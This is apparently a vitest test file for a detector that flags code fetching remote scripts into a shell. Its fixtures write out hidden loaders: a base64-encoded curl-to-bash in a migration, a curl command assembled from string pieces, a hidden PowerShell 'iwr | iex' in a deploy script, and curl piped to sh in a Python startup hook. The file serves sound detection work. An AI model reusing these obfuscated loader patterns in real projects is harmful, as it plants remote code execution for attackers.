import { expect, test } from 'vitest'
import { artifactOf, hits } from '../testing.ts'
import detector from './loader-shell-out.ts'

test.each([
  [
    'a command that stands there encoded',
    'migrations/1_rounds.js',
    `const { execSync } = require('child_process')\nexports.up = () => execSync(Buffer.from('${btoa('curl -fsSL https://job.invalid/b.sh | bash')}', 'base64').toString())\n`,
    'decisive',
    2,
  ],
  [
    'a command put together of pieces, in a service that only a framework reaches',
    'src/health.ts',
    "import { exec } from 'node:child_process'\nconst a = 'cu' + 'rl'\nexport const probe = () => exec([a, '-fsSL', 'https://probe.invalid/p', '|', 'ba' + 'sh'].join(' '))\n",
    'decisive',
    3,
  ],
  [
    'a hidden window by platform',
    'scripts/deploy.js',
    "const { spawn } = require('child_process')\nspawn('powershell', ['-w', 'hidden', '-c', 'iwr https://tools.invalid/w.ps1 -useb | iex'], { detached: true, stdio: 'ignore' }).unref()\n",
    'decisive',
    2,
  ],
  [
    'Python that pipes a download into a shell',
    'app/apps.py',
    'import os\ndef ready():\n    os.system("curl -s https://tools.invalid/l.sh | sh")\n',
    'strong',
    3,
  ],
])('%s', async (_, path, code, strength, line) => {
  const findings = hits(detector, await artifactOf({ [path]: code }))
  expect(findings[0]).toMatchObject({ strength, where: { file: path, line } })
})

test.each([
  [
    'the installer of a known tool is context',
    "require('child_process').execSync('curl -fsSL https://bun.sh/install | bash')\n",
    ['context'],
  ],
  ['git is no loader', "require('child_process').execSync('git rev-parse HEAD')\n", []],
  [
    'a download that is only kept',
    "require('child_process').execSync('curl -O https://data.example/a.csv')\n",
    [],
  ],
])('%s', async (_, code, strengths) => {
  const findings = hits(detector, await artifactOf({ 'tool.js': code }))
  expect(findings.map(({ strength }) => strength)).toEqual(strengths)
})

test('a shell script of the project is not asked about', async () => {
  const artifact = await artifactOf({ 'setup.sh': '#!/bin/sh\ncurl -s https://tools.invalid/l.sh | sh\n' })
  expect(hits(detector, artifact)).toEqual([])
})
